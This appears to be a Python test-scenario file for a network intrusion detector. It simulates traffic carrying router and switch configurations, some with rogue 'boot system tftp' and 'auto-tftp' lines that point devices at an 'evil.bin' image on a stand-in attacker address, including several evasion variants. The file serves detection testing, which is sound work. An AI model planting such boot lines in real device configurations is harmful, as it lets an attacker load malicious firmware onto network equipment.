"""BW08: a configuration in transit has lines that set a network boot."""

from __future__ import annotations

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import HQ
from bootwarden.traffic import ftp, http, tftp
from bootwarden.traffic.images import config
from bootwarden.traffic.wire import Wire

DEVICE, SERVER, ROGUE = "10.0.1.7", "10.0.0.5", "10.0.6.66"


def served(file: str, server: str = ROGUE, device: str = DEVICE) -> Notice:
    """The notice of one configuration; its server is the one that the boot line names."""
    return Notice("Boot_Config_Served", device, server, file)


@scenario(
    "BW08",
    "malicious",
    raises=[("BW08", 0, "10.0.0.5", "10.0.1.7")],
    site=HQ,
    with_site=Expect((served("branch7-confg"),)),
)
def bw08_boot_system_line(wire: Wire) -> None:
    """The declared server hands out a configuration that someone changed to boot from elsewhere."""
    tftp.read(wire, DEVICE, SERVER, "branch7-confg", config("branch7", (f"boot system tftp://{ROGUE}/evil.bin",)))


@scenario("BW08", "malicious", site=HQ, with_site=Expect((served("branch7-confg"),)))
def bw08_netascii_across_blocks(wire: Wire) -> None:
    """The line is abbreviated, written in netascii, and lies across the border of two blocks."""
    head = config("branch7").split(b"boot-end-marker")[0]
    # A line on the wire ends in two bytes; the boot line begins four bytes before the block's end.
    text = (
        head + b"!".ljust(508 - len(tftp.netascii(head)) - 2, b"x") + f"\nboo sys tft evil.bin {ROGUE}\nend\n".encode()
    )
    wire_text = tftp.netascii(text)
    assert wire_text.index(b"boo sys") == 508
    tftp.read(wire, DEVICE, SERVER, "branch7-confg", wire_text, mode="netascii")


@scenario(
    "BW08",
    "malicious",
    raises=[("BW08", 2, "10.0.0.5", "10.0.1.8"), ("BW08", 3, "10.0.0.5", "10.0.1.7")],
    site=HQ,
    with_site=Expect((served("core7.cfg"), served("/configs/core8-confg", device="10.0.1.8"))),
)
def bw08_by_ftp_and_http(wire: Wire) -> None:
    """The same by FTP with Windows line ends, and by HTTP with a line that sets the network configuration."""
    text = config("core7", (f"boot system tftp evil.bin {ROGUE}",)).replace(b"\n", b"\r\n")
    ftp.retrieve(wire, DEVICE, SERVER, "core7.cfg", text)
    text = config("core8", ("service config", f"boot network tftp://{ROGUE}/network-confg"))
    http.get(wire, "10.0.1.8", SERVER, "/configs/core8-confg", text, kind="text/plain", client_port=50081)


@scenario(
    "BW08",
    "malicious",
    raises=[("BW08", 1, "10.0.1.7", "10.0.0.5")],
    site=HQ,
    with_site=Expect((served("branch7-confg"),)),
)
def bw08_found_in_backup(wire: Wire) -> None:
    """A nightly backup to the declared server shows that the device already boots from elsewhere."""
    text = config("branch7", (f"boot system tftp evil.bin {ROGUE}",))
    tftp.write(wire, DEVICE, SERVER, "branch7-confg", text)


@scenario(
    "BW08",
    "benign",
    raises=[("BW08", 0, "10.0.0.5", "10.0.1.7")],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(),
)
def bw08_declared_server(wire: Wire) -> None:
    """Boot lines name the declared server, by address and by name, and the local flash."""
    lines = (
        f"boot system tftp c2900-universalk9-mz.SPA.157-3.M8.bin {SERVER}",
        "boot host tftp://boot.corp.example/branch7-confg",
        "boot system flash:c2900-universalk9-mz.SPA.157-3.M8.bin",
    )
    tftp.read(wire, DEVICE, SERVER, "branch7-confg", config("branch7", lines))


@scenario("BW08", "benign", site=HQ, with_site=Expect())
def bw08_lines_that_only_mention(wire: Wire) -> None:
    """Comments, removals, descriptions and a banner speak of booting from a server that nobody declared."""
    lines = (
        f"! boot system tftp://{ROGUE}/old.bin",
        f"no boot system tftp old.bin {ROGUE}",
        "interface Vlan9",
        f" description boot system tftp://{ROGUE}/old.bin",
        "boot system flash:c2900-universalk9-mz.SPA.157-3.M8.bin",
    )
    tftp.read(wire, DEVICE, SERVER, "branch7-confg", config("branch7", lines))


@scenario("BW08", "benign", site=HQ, with_site=Expect())
def bw08_web_page_about_it(wire: Wire) -> None:
    """A workstation reads a tutorial that shows the very lines."""
    page = (
        f"<html><pre>\nRouter(config)# boot system tftp://{ROGUE}/image.bin\nboot system tftp i {ROGUE}\n</pre></html>"
    )
    http.get(
        wire,
        "10.0.2.40",
        "93.184.216.34",
        "/tutorial.html",
        page.encode(),
        kind="text/html",
        agent="Mozilla/5.0",
    )


@scenario(
    "BW08",
    "malicious",
    raises=[("BW08", rule, SERVER, f"10.0.1.{n}") for n, rule in ((41, 1542007792), (42, 0), (43, 6))],
    site=HQ,
    with_site=Expect(tuple(served(f"sw{n}-confg", device=f"10.0.1.{n}") for n in (41, 42, 43, 46))),
)
def bw08_written_by_hand(wire: Wire) -> None:
    """Boot lines as a hand may write them: abbreviated, with tabs, first in the file, below a title; HPE's own."""
    lines = (
        f"hostname sw41\n!\nbo sy t evil.bin {ROGUE}\nend\n",
        # Lines of several rules are one file's.
        f"boot\tsystem\ttftp://{ROGUE}/evil.bin\nauto-tftp {ROGUE} x\nbo sy t evil.bin {ROGUE}\nend\n",
        f'; J9019A Configuration Editor; \n\nhostname "sw43"\nauto-tftp {ROGUE} "Q.swi"\n',
    )
    for number, text in enumerate(lines, 41):
        tftp.read(wire, f"10.0.1.{number}", SERVER, f"sw{number}-confg", text.encode())
    # What begins as a guide is one on Suricata; on Zeek not where it is asked for as a configuration.
    titled = f"Access switches\nboot system tftp evil.bin {ROGUE}\n"
    tftp.read(wire, "10.0.1.46", SERVER, "sw46-confg", titled.encode())


@scenario(
    "BW08",
    "malicious",
    raises=[("BW08", 4, SERVER, "10.0.1.44"), ("BW08", 5, SERVER, "10.0.1.45")],
    site=HQ,
    with_site=Expect((served("/sw44.cfg", device="10.0.1.44"), served("sw45.cfg", device="10.0.1.45"))),
)
def bw08_hpe_by_http_and_ftp(wire: Wire) -> None:
    """The configuration of an HPE switch, by HTTP and by FTP, makes it fetch its image at every start."""
    text = f'; J9019A Configuration Editor\n\nhostname "sw"\nauto-tftp {ROGUE} "Q_evil.swi"\n'.encode()
    http.get(wire, "10.0.1.44", SERVER, "/sw44.cfg", text, kind="text/plain", client_port=50081)
    ftp.retrieve(wire, "10.0.1.45", SERVER, "sw45.cfg", text)


@scenario("BW08", "benign", site=HQ, with_site=Expect())
def bw08_prose_about_it(wire: Wire) -> None:
    """A manual comes by FTP, HTTP and TFTP; its lines happen to break before the commands that it explains."""
    manual = (
        "Loading images from the network\n\nTo have a router load its image from a server, use the\n"
        "boot system tftp command in global configuration mode. Where the server answers at\n"
        f"boot system tftp://{ROGUE}/image.bin is tried before the flash is, whatever comes first.\n"
        "auto-tftp on the other hand is what switches of another vendor call the same thing.\n"
    ).encode() * 3
    ftp.retrieve(wire, "10.20.1.40", "10.20.0.9", "manual.txt", manual)
    http.get(wire, "10.20.1.40", "93.184.216.34", "/manual.txt", manual, kind="text/plain", client_port=50082)
    tftp.read(wire, "10.20.1.40", SERVER, "manual.txt", manual)


HPE_TEXT = f"""\
; J9019A Configuration Editor; Created on release #Q.11.78

hostname "sw43"
auto-tftp {ROGUE} "Q_evil.swi"
""".encode()


@scenario(
    "BW08",
    "malicious",
    raises=[
        ("BW08", 1542007797, DEVICE, "10.20.0.9"),
        ("BW08", 1542007798, "10.0.1.2", "10.20.0.9"),
        ("BW08", 1542007801, "10.0.1.3", "10.20.0.9"),
        ("BW08", 1542007802, "10.0.1.4", "10.20.0.9"),
    ],
    site=HQ,
    with_site=Expect(
        tuple(
            notice
            for number, device in enumerate((DEVICE, "10.0.1.2", "10.0.1.3", "10.0.1.4"), 1)
            for notice in (
                Notice("Config_Exfiltration", device, "10.20.0.9", f"edge{number}.cfg"),
                served(f"edge{number}.cfg", device=device),
            )
        )
    ),
)
def bw08_stored_by_ftp(wire: Wire) -> None:
    """Devices store configurations with a rogue boot line by FTP, passive and active, of Cisco's and of HPE's."""
    text = config("edge1", (f"boot system tftp evil.bin {ROGUE}",))
    ftp.store(wire, DEVICE, "10.20.0.9", "edge1.cfg", text)
    ftp.store(wire, "10.0.1.2", "10.20.0.9", "edge2.cfg", text, active=True)
    ftp.store(wire, "10.0.1.3", "10.20.0.9", "edge3.cfg", HPE_TEXT)
    ftp.store(wire, "10.0.1.4", "10.20.0.9", "edge4.cfg", HPE_TEXT, active=True)


@scenario(
    "BW08",
    "malicious",
    raises=[("BW08", 1542007796, "10.20.0.9", DEVICE), ("BW08", 1542007800, "10.20.0.9", "10.0.1.2")],
    raises_with_site=[
        *(("BW08", sid, "10.20.0.9", device) for sid, device in ((1542007796, DEVICE), (1542007800, "10.0.1.2"))),
        *(("BW10", 23, "10.20.0.9", device) for device in (DEVICE, "10.0.1.2")),
    ],
    site=HQ,
    with_site=Expect(
        tuple(
            notice
            for number, device in enumerate((DEVICE, "10.0.1.2"), 1)
            for notice in (
                Notice("Unauthorized_Boot_Server", device, "10.20.0.9", f"edge{number}.cfg"),
                served(f"edge{number}.cfg", device=device),
            )
        ),
    ),
)
def bw08_fetched_by_active_ftp(wire: Wire) -> None:
    """A router and an HPE switch fetch a configuration with a rogue boot line by FTP in active mode."""
    text = config("edge1", (f"boot system tftp evil.bin {ROGUE}",))
    ftp.retrieve(wire, DEVICE, "10.20.0.9", "edge1.cfg", text, active=True)
    ftp.retrieve(wire, "10.0.1.2", "10.20.0.9", "edge2.cfg", HPE_TEXT, active=True)


@scenario("BW08", "benign", site=HQ, with_site=Expect())
def bw08_texts_for_people(wire: Wire) -> None:
    """Texts for people, by their first lines: titles, steps, mails, pages; each shows the very lines."""
    order = f"\n\nboot system tftp evil.bin {ROGUE}\nno file verify auto\n"
    heads = (
        *("README", "HOW TO BOOT A ROUTER", "Netboot howto\n=============", "; notes\nUse this:", "1. Configure:"),
        *("From: noc@corp.example\nSubject: boot", "\xef\xbb\xbfWie man einen Router startet", "<pre>", "%PDF-1.4"),
        *("to netboot a router, type the following", "== Netboot ==", '.\\"boot.8\n.TH BOOT 8', "- connect a console"),
    )
    for number, head in enumerate(heads):
        text = (head + order).encode("latin-1")
        tftp.read(wire, "10.20.1.40", SERVER, f"howto{number}.txt", text, client_port=40100 + number)
        ftp.retrieve(wire, "10.20.1.40", "10.20.0.9", "howto.txt", text, client_port=50200 + number)
